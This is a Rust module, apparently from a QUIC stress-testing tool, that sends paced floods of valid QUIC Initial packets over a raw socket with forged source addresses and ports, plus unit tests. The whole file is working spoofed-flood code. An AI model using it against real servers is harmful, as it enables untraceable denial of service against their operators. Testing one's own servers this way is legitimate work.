//! Spoofed first packets of QUIC handshakes, so many a second, each from an address and port that nobody has.
//!
//! The packets are whole and valid, and have different connection IDs, so that a server has to read them; they are made
//! before the first is sent, because making one takes longer than sending it. They leave by a raw socket, which root
//! may have. What the server answers goes to where nobody is.

use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::os::fd::OwnedFd;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Instant;

use quic::{ClientParameters, Endpoint, EndpointParameters, NoDatagrams, Outbox};
use rustix::io::Errno;
use rustix::net::{AddressFamily, SendFlags, SocketType, ipproto};
use serde::{Deserialize, Serialize};

use crate::error::During;
use crate::pacer::Pacer;
use crate::{Error, limits};

/// Bytes of an IPv4 header without options, and of a UDP header.
const IPV4_BYTES: usize = 20;
const UDP_BYTES: usize = 8;

/// UDP's protocol number in IP headers.
const UDP: u8 = 17;

/// What the packets' UDP payload may have, in bytes: Ethernet's MTU without the headers.
const PAYLOAD_BYTES_MAX: u16 = 1_472;

/// How many packets are sent at most before it is looked how late it is.
const BURST: usize = 32;

/// Source ports are from here on, as clients have them.
const PORT_MIN: u16 = 32_768;

/// Whom they go to, and how many.
#[derive(Clone, Debug, Serialize, Deserialize)]
pub(super) struct SpoofingOptions {
    /// The server.
    pub(super) server: SocketAddrV4,
    /// They come from anywhere in this network, whose prefix has so many bits, at most 24.
    pub(super) network: (Ipv4Addr, u8),
    /// Packets in a second.
    pub(super) per_second: u32,
}

/// What was sent.
#[derive(Clone, Copy, Debug, Default, Serialize, Deserialize)]
pub(super) struct SpoofingReport {
    /// Packets that the kernel took.
    pub(super) sent: u64,
    /// Packets that it had no room for.
    pub(super) refused: u64,
    /// From the first to the last.
    pub(super) seconds: f64,
}

/// A flood that is ready.
pub(super) struct Spoofing {
    options: SpoofingOptions,
    packets: Vec<Vec<u8>>,
    socket: OwnedFd,
}

impl Spoofing {
    /// Makes the packets.
    ///
    /// # Errors
    /// Without root, or when QUIC cannot be set up.
    pub(super) fn prepare(options: SpoofingOptions) -> Result<Self, Error> {
        let packets = (0..limits::SPOOFED_PACKETS)
            .map(|number| Ok(framed(&options, &first_packet(options.server, number)?)))
            .collect::<Result<_, Error>>()?;
        let open = || {
            let socket = rustix::net::socket(AddressFamily::INET, SocketType::RAW, Some(ipproto::RAW))?;
            rustix::net::connect(&socket, &options.server)?;
            Ok(socket)
        };
        let socket = open()
            .map_err(|error: Errno| error.into())
            .during(|| format!("open a raw socket to {}", options.server))?;
        Ok(Self {
            options,
            packets,
            socket,
        })
    }

    /// Sends until `stop` is set.
    ///
    /// # Errors
    /// What the kernel refuses for another reason than want of room.
    pub(super) fn run(mut self, stop: &AtomicBool) -> Result<SpoofingReport, Error> {
        let mut report = SpoofingReport::default();
        // The pacer counts bits: packets of one byte each.
        let mut pacer = Pacer::new(Some(u64::from(self.options.per_second) * 8), 1);
        let start = Instant::now();
        let mut number = 0_u32;
        while !stop.load(Ordering::Relaxed) {
            let burst = pacer.due(start.elapsed()).min(BURST);
            for _ in 0..burst {
                let index = number as usize % self.packets.len();
                let packet = &mut self.packets[index];
                put_source(packet, source(self.options.network, number));
                match rustix::net::send(&self.socket, packet, SendFlags::empty()) {
                    Ok(_) => report.sent += 1,
                    Err(Errno::NOBUFS | Errno::AGAIN) => report.refused += 1,
                    Err(error) => return Err(error.into()).during(|| "send a spoofed packet".to_owned()),
                }
                number = number.wrapping_add(1);
            }
            pacer.sent(burst);
            if burst < BURST {
                std::thread::sleep(pacer.wait(start.elapsed(), 1));
            }
        }
        report.seconds = start.elapsed().as_secs_f64();
        Ok(report)
    }
}

/// The address and port that packet `number` comes from. Neighbours in number are far from each other in the network,
/// and no address comes twice before all have come once.
fn source((network, bits): (Ipv4Addr, u8), number: u32) -> SocketAddrV4 {
    // An odd factor makes a permutation of any power of two.
    let scattered = number.wrapping_mul(0x9e37_79b1);
    let host = scattered & (u32::MAX >> bits);
    let port = PORT_MIN | (scattered >> 16) as u16;
    SocketAddrV4::new(Ipv4Addr::from_bits(network.to_bits() | host), port)
}

/// What a client that begins a handshake sends first.
fn first_packet(server: SocketAddrV4, number: u32) -> Result<Vec<u8>, Error> {
    let failed = |error: &dyn std::fmt::Display| Error::Setup(format!("cannot make a handshake: {error}"));
    let mut seed = [0; 32];
    seed[..4].copy_from_slice(&number.to_be_bytes());
    let parameters = EndpointParameters::of_client(seed);
    let mut endpoint = Endpoint::new(&parameters, None).map_err(|error| failed(&error))?;
    let (now, server) = (Instant::now(), SocketAddr::V4(server));
    endpoint
        .connect(
            now,
            server,
            "localhost",
            &ClientParameters::Pin([0; 32]),
            PAYLOAD_BYTES_MAX,
        )
        .map_err(|error| failed(&error))?;
    let mut outbox = Outbox::default();
    endpoint.flush(
        now,
        &mut NoDatagrams {
            udp_payload_ceiling: PAYLOAD_BYTES_MAX,
        },
        &mut outbox,
    );
    let first = outbox.trains().first();
    let first = first.and_then(|train| train.bytes.chunks(train.segment_size.max(1)).next());
    first
        .map(<[u8]>::to_vec)
        .ok_or_else(|| failed(&"it sends nothing"))
}

/// The payload behind headers of IPv4 (RFC 791 section 3.1), whose checksum and length the kernel fills in, and of UDP,
/// which over IPv4 needs no checksum (RFC 768). The source is missing.
fn framed(options: &SpoofingOptions, payload: &[u8]) -> Vec<u8> {
    let mut packet = vec![0; IPV4_BYTES + UDP_BYTES];
    packet[0] = 0x45;
    packet[8] = 64;
    packet[9] = UDP;
    packet[16..20].copy_from_slice(&options.server.ip().octets());
    packet[22..24].copy_from_slice(&options.server.port().to_be_bytes());
    packet[24..26].copy_from_slice(&((UDP_BYTES + payload.len()) as u16).to_be_bytes());
    packet.extend_from_slice(payload);
    packet
}

fn put_source(packet: &mut [u8], source: SocketAddrV4) {
    packet[12..16].copy_from_slice(&source.ip().octets());
    packet[20..22].copy_from_slice(&source.port().to_be_bytes());
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    const NETWORK: (Ipv4Addr, u8) = (Ipv4Addr::new(10, 128, 0, 0), 9);

    #[test]
    fn sources_are_of_their_network_and_none_comes_twice_in_a_round() {
        let sources: BTreeSet<_> = (0..100_000).map(|number| source(NETWORK, number)).collect();
        assert_eq!(sources.len(), 100_000);
        assert!(sources.iter().all(|source| source.ip().octets()[0] == 10));
        assert!(
            sources
                .iter()
                .all(|source| source.ip().octets()[1] >= 128 && source.port() >= PORT_MIN)
        );
        let prefixes: BTreeSet<_> = sources.iter().map(|source| source.ip().to_bits() >> 8).collect();
        assert!(prefixes.len() > 30_000, "{}", prefixes.len());
    }

    #[test]
    fn each_packet_is_an_initial_with_a_connection_id_of_its_own() {
        let options = SpoofingOptions {
            server: SocketAddrV4::new(Ipv4Addr::LOCALHOST, 443),
            network: NETWORK,
            per_second: 1,
        };
        let packets = [0, 1].map(|number| framed(&options, &first_packet(options.server, number).unwrap()));
        for packet in &packets {
            assert!(packet.len() >= IPV4_BYTES + UDP_BYTES + 1_200);
            // A long header of type 0 (RFC 9000 section 17.2.2).
            assert_eq!(packet[28] & 0xf0, 0xc0);
        }
        assert_ne!(packets[0][34..42], packets[1][34..42]);
    }
}
